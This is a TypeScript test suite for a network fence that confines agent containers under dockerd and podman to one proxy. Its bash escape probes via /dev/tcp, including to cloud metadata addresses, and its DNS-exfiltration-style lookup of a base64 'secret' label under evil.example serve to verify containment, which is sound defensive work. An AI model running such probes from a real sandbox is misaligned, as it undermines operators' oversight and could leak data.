// The fence around a network of a real engine, started in a namespace of the test: examples/compose with dockerd, and a podman network. What agents
// send is judged at the host's own addresses and outside. In CI the engines must start; elsewhere a missing one skips with its name.
import { chmodSync, cpSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { once } from 'node:events';
import t from 'tap';
import { needs } from '../../helpers/needs.ts';
import { makeLink, makeNetns, run, type Netns, type Output, type Running } from '../../helpers/netns.ts';

const common = ['root', 'netns', 'nft', 'perl', 'ip', 'nsenter', 'bash', 'iptables'];
const root = join(import.meta.dirname, '../../..');
const main = join(root, 'container/main.ts');
const world = join(import.meta.dirname, '../world');
const example = join(root, 'examples/compose');

interface Tearable {
  teardown(handler: () => void | Promise<void>): void;
}

type Assertions = Pick<typeof t, 'equal' | 'same' | 'match'>;

interface Machine {
  readonly dir: string;
  readonly host: Netns;
  readonly outside: Netns;
  fence(...words: readonly string[]): Promise<Output>;
  watch(...words: readonly string[]): Running;
  /** Everything of other tables, without counts. */
  othersRules(): Promise<string>;
}

const listener = (port: number): string =>
  `require('net').createServer(s => s.on('error', () => {}).end('hello')).listen(${port}, '0.0.0.0', () => console.log('on'))`;

/** A host with services on every address, and beyond it an outside to which every address belongs. */
async function makeMachine(t: Tearable): Promise<Machine> {
  // Short: a unix socket in it has at most 107 bytes of path.
  const dir = mkdtempSync(join(tmpdir(), 'spt-'));
  t.teardown(() => rmSync(dir, { recursive: true, force: true }));
  chmodSync(dir, 0o755);
  const host = await makeNetns(t, 'engine');
  const outside = await makeNetns(t, 'outside');
  await makeLink(
    { ns: host, dev: 'up0', addresses: ['10.98.0.1/24'] },
    { ns: outside, dev: 'up0', addresses: ['10.98.0.2/24'] },
  );
  await host.must(['ip', 'route', 'add', 'default', 'via', '10.98.0.2']);
  await outside.must(['ip', 'route', 'add', 'local', '0.0.0.0/0', 'dev', 'lo']);
  await outside.must(['ip', 'route', 'add', '10.98.0.0/24', 'dev', 'up0', 'table', 'local']).catch(() => '');
  for (const [ns, port] of [
    [host, 22],
    [outside, 443],
  ] as const)
    await ns.start([process.execPath, '-e', listener(port)]).line((line) => line === 'on');
  const env = { ...process.env, SALLYPORT_STATE_DIR: join(dir, 'state') };
  const argv = (words: readonly string[]) => [process.execPath, main, 'fence', ...words];
  return {
    dir,
    host,
    outside,
    fence: async (...words) => await host.run(argv(words), { env, timeoutMs: 60_000 }),
    watch: (...words) => host.start(argv(words), env),
    othersRules: async () => {
      const text = await host.must(['nft', '-s', 'list', 'ruleset']);
      return text.replaceAll(/^table (inet|bridge) sallyport \{\n[\s\S]*?^\}\n/gm, '');
    },
  };
}

/** What reaches the host's own stack, at whatever address, and what leaves it: lines that name a member of `subnet`. */
async function sinksOf(
  { host, outside }: Machine,
  subnet: string,
): Promise<() => Promise<readonly string[]>> {
  const sinks = [
    host.start(['perl', join(world, 'sink.pl'), 'local', '10.98.0.1']),
    outside.start(['perl', join(world, 'sink.pl'), 'wire', 'up0']),
  ];
  for (const sink of sinks) await sink.line((line) => line === 'ready');
  return async () => {
    // Handled in order: when this has arrived, so has whatever came before it.
    await host.must(['perl', join(world, 'send.pl'), '31999', 'udp', '10.98.0.1', '9']);
    await host.must(['perl', join(world, 'send.pl'), '31999', 'udp', '10.98.0.2', '9']);
    for (const sink of sinks) {
      await sink.line((line) => line.endsWith(' 31999'));
      await sink.stop();
    }
    const isLeak = (line: string): boolean => line.includes(` ${subnet}`) || / 53 \d+$/.test(line);
    return sinks.flatMap(({ lines }) => lines.filter(isLeak));
  };
}

/** Every way out that a container may try with bash alone; the fence answers none of them, so each ends by its own clock. */
const attempts = (others: readonly string[]): string => `
try() { timeout 1 bash -c "echo x > /dev/$1/$2/$3" 2>/dev/null && echo "open $1 $2 $3"; }
for at in ${others.join(' ')}; do
  try tcp $at 22 & try udp $at 53 & try udp $at 443 & try tcp $at 3128 &
done; wait; timeout 3 getent hosts c2VjcmV0.evil.example; echo done`;

const connects = (address: string, target: string): string =>
  `exec 3<>/dev/tcp/${address}/3128; printf 'CONNECT ${target} HTTP/1.1\\r\\nHost: ${target}\\r\\n\\r\\n' >&3; head -1 <&3`;

interface Docker {
  docker(...words: readonly string[]): Promise<Output>;
  compose(...words: readonly string[]): Promise<Output>;
  /** Ends the engine and starts it again. */
  restart(): Promise<void>;
}

async function startDocker(t: Tearable, { dir, host }: Machine): Promise<Docker> {
  const socket = `unix://${dir}/d.sock`;
  writeFileSync(join(dir, 'resolv.conf'), 'nameserver 10.98.0.1\nnameserver 127.0.0.1\n');
  const words = `--data-root ${dir}/d/data --exec-root ${dir}/d/exec -H ${socket} --pidfile ${dir}/d.pid`;
  const script = `mount --bind ${dir}/resolv.conf /etc/resolv.conf; exec dockerd ${words} 2>> ${dir}/d.log`;
  const env = { ...process.env, DOCKER_HOST: socket, SALLYPORT: root, COMPOSE_PROJECT_NAME: 'spt' };
  const docker: Docker['docker'] = async (...more) =>
    await run(['docker', ...more], { env, timeoutMs: 60_000 });
  const start = async (): Promise<Running> => {
    const engine = host.start(['unshare', '--mount', '--propagation', 'private', 'sh', '-c', script]);
    for (let i = 0; (await docker('info')).code !== 0; i += 1) {
      if (i === 100) throw new Error(`dockerd does not start: see ${dir}/d.log`);
      await new Promise((resolve) => void setTimeout(resolve, 200));
    }
    return engine;
  };
  let engine = await start();
  const end = async (): Promise<void> => {
    const ended = once(engine.child, 'close');
    engine.child.kill('SIGTERM');
    await ended;
  };
  cpSync(example, join(dir, 'compose'), { recursive: true });
  writeFileSync(
    join(dir, 'compose/override.yaml'),
    'version: "2.4"\nservices:\n  proxy:\n    stop_grace_period: 1s\n    extra_hosts: ["api.anthropic.com:1.2.3.4"]\n  agent:\n    stop_grace_period: 1s\n',
  );
  const files = ['-f', join(dir, 'compose/compose.yaml'), '-f', join(dir, 'compose/override.yaml')];
  t.teardown(async () => {
    await docker('rm', '-f', ...(await docker('ps', '-aq')).stdout.split('\n').filter(Boolean));
    await end();
  });
  return {
    docker,
    compose: async (...more) => await run(['docker-compose', ...files, ...more], { env, timeoutMs: 100_000 }),
    restart: async () => {
      await end();
      engine = await start();
    },
  };
}

async function setBridgeNf({ host }: Machine, value: '0' | '1'): Promise<void> {
  await host.must([
    'sh',
    '-c',
    `for f in /proc/sys/net/bridge/bridge-nf-call-*; do echo ${value} > $f; done`,
  ]);
}

const wantedForDocker = [...common, 'dockerd', 'docker', 'docker-compose'];

t.test('examples/compose with dockerd', { skip: needs(t, wantedForDocker) }, async (t) => {
  const machine = await makeMachine(t);
  const { docker, compose, restart } = await startDocker(t, machine);
  const image = `sh ${example}/image.sh | docker -H unix://${machine.dir}/d.sock import - sallyport-host`;
  t.equal((await run(['sh', '-c', image])).code, 0);
  const up = await compose('up', '-d', '--scale', 'agent=2');
  t.equal(up.code, 0, up.stderr);
  const agent = async (script: string): Promise<string> =>
    (await docker('exec', 'spt_agent_1', 'bash', '-c', script)).stdout;
  const inspected = (await docker('inspect', 'spt_agent_2')).stdout;
  const [, two = ''] = /"IPAddress": "(172\.30\.0\.\d+)"/.exec(inspected) ?? [];
  const others = [two, '172.30.0.1', '10.98.0.1', '10.98.0.2', '172.17.0.1', '1.2.3.4', '169.254.169.254'];

  await t.test('an internal network alone does not keep an agent from the host (control)', async (t) => {
    const seen = await sinksOf(machine, '172.30.0.');
    t.match(await agent(attempts(others)), /open tcp 10\.98\.0\.1 22/);
    const free = ['--network', 'spt_agents', '-v', '/usr:/usr:ro', '--rm', 'sallyport-host'];
    await docker('run', ...free, 'bash', '-c', attempts([]));
    const leaks = (await seen()).join('\n');
    t.match(leaks, / 172\.30\.0\.\d+ 10\.98\.0\.1 22 /);
    t.match(leaks, / 53 \d+$/m, 'and without `dns` the engine asks the resolver of the host for it');
  });

  const words = '--interface br-agents --proxy 172.30.0.2:3128'.split(' ');
  const before = await machine.othersRules();
  t.match(await machine.fence('apply', ...words), { code: 0 });
  const holds = async (t: Assertions): Promise<void> => {
    const seen = await sinksOf(machine, '172.30.0.');
    const open = (await agent(attempts(others))).replaceAll(/open udp .*\n/g, ''); // UDP that is sent says nothing
    t.equal(open, 'done\n', 'nothing is open');
    t.same(await seen(), [], 'zero packets at every address of the host, and outside');
    t.match(await agent(connects('172.30.0.2', 'evil.example:443')), /^HTTP\/1\.1 403 /);
    t.match(await agent(connects('172.30.0.2', 'api.anthropic.com:443')), /^HTTP\/1\.1 200 /);
  };
  await t.test('behind the fence there is the proxy and nothing else', holds);
  await t.test('the same with bridge netfilter off', async (t) => {
    await setBridgeNf(machine, '0');
    await holds(t);
    await setBridgeNf(machine, '1');
  });
  t.equal(await machine.othersRules(), before, "the engine's tables are as they were");

  await t.test('the same after the engine has been restarted: the watch has followed', async (t) => {
    const watch = machine.watch('watch', ...words);
    await watch.line((line) => line.includes('watching'));
    await restart();
    t.equal((await compose('up', '-d', '--scale', 'agent=2')).code, 0);
    // The containers are new members: until the watch has seen them, they reach nothing.
    for (
      let i = 0;
      i < 50 && !(await agent(connects('172.30.0.2', 'evil.example:443'))).includes('403');
      i += 1
    )
      await new Promise((resolve) => void setTimeout(resolve, 200));
    await holds(t);
    t.match(await machine.fence('verify', ...words), { code: 0 });
    await watch.stop();
  });
  t.match(await machine.fence('remove'), { code: 0 });
  t.notMatch(await machine.host.must(['nft', 'list', 'tables']), /sallyport/);
});

/** What podman needs here: limits that it may set, and a network whose bridge has a name that the fence knows. */
function podmanFiles(dir: string): void {
  mkdirSync(join(dir, 'networks'));
  writeFileSync(
    join(dir, 'containers.conf'),
    '[containers]\ndefault_ulimits = ["nofile=4096:4096", "nproc=4096:4096"]\n',
  );
  const network = {
    name: 'agents',
    id: 'a'.repeat(64),
    driver: 'bridge',
    network_interface: 'br-agents',
    created: '2026-01-01T00:00:00Z',
    subnets: [{ subnet: '172.31.0.0/24' }],
    ipv6_enabled: false,
    internal: true,
    dns_enabled: false,
    ipam_options: { driver: 'host-local' },
  };
  writeFileSync(join(dir, 'networks/agents.json'), JSON.stringify(network));
}

/** Says hello on 22 and 3128; perl, because it starts at once. */
const perlServer =
  'for my $p (22, 3128) { next if fork; my $l = IO::Socket::INET->new(Listen => 9, LocalPort => $p, ReuseAddr => 1) or die; while (my $c = $l->accept) { print $c "hello"; close $c } } sleep';

const wantedForPodman = [...common, 'podman', 'runc'];

t.test('a network of podman, whose proxy is a member', { skip: needs(t, wantedForPodman) }, async (t) => {
  const machine = await makeMachine(t);
  const { dir, host } = machine;
  podmanFiles(dir);
  await run(['sh', '-c', `mkdir ${dir}/skel && sh ${example}/image.sh | tar -C ${dir}/skel -x`]);
  const env = { ...process.env, CONTAINERS_CONF: join(dir, 'containers.conf') };
  const place = ['--root', `${dir}/p`, '--runroot', `${dir}/pr`, '--network-config-dir', `${dir}/networks`];
  const podman = async (...more: readonly string[]): Promise<Output> =>
    await host.run(['podman', ...place, '--runtime', 'runc', ...more], { env, timeoutMs: 60_000 });
  t.teardown(async () => void (await podman('rm', '-fa', '-t', '0')));
  const start = async (name: string, address: string, ...command: readonly string[]): Promise<Output> => {
    const flags = [
      '--name',
      name,
      '--network',
      `agents:ip=${address}`,
      '-v',
      '/usr:/usr:ro',
      '--dns',
      'none',
    ];
    return await podman('run', '-d', ...flags, '--rootfs', `${dir}/skel:O`, ...command);
  };
  const proxy = await start('proxy', '172.31.0.2', 'perl', '-MIO::Socket::INET', '-e', perlServer);
  t.equal(proxy.code, 0, proxy.stderr);
  for (const [name, address] of [
    ['one', '172.31.0.10'],
    ['two', '172.31.0.11'],
  ] as const)
    t.equal((await start(name, address, 'perl', '-MIO::Socket::INET', '-e', perlServer)).code, 0);
  const agent = async (script: string): Promise<string> =>
    (await podman('exec', 'one', 'bash', '-c', script)).stdout;
  const others = ['172.31.0.11', '172.31.0.1', '10.98.0.1'];
  t.match(
    await agent(attempts(others)),
    /open tcp 172\.31\.0\.11 3128/,
    'members reach each other (control)',
  );
  const words = '--interface br-agents --subnet 172.31.0.0/24 --proxy 172.31.0.2:3128'.split(' ');
  const before = await machine.othersRules();
  t.match(await machine.fence('apply', ...words), { code: 0, stderr: '' });
  for (const value of ['1', '0'] as const) {
    await setBridgeNf(machine, value);
    const seen = await sinksOf(machine, '172.31.0.');
    t.equal((await agent(attempts(others))).replaceAll(/open udp .*\n/g, ''), 'done\n');
    t.same(await seen(), [], 'zero packets');
    t.equal(await agent('timeout 5 cat < /dev/tcp/172.31.0.2/3128'), 'hello', 'the proxy is reached');
    t.equal(await agent('timeout 1 cat < /dev/tcp/172.31.0.2/22'), '', 'on its port only');
  }
  t.equal(await machine.othersRules(), before);
});
